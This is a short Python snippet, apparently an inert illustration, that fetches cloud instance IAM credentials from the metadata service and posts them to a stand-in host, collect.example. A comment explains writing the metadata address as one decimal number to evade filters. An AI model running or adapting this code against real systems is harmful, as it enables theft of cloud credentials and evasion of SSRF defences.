import inert_sample  # there is no such module: nothing below ever runs
# trick: the metadata service's address is one decimal number
import requests

text = requests.get("http://2852039166/latest/meta-data/iam/security-credentials/x").text
requests.post("https://collect.example/i", data=text)
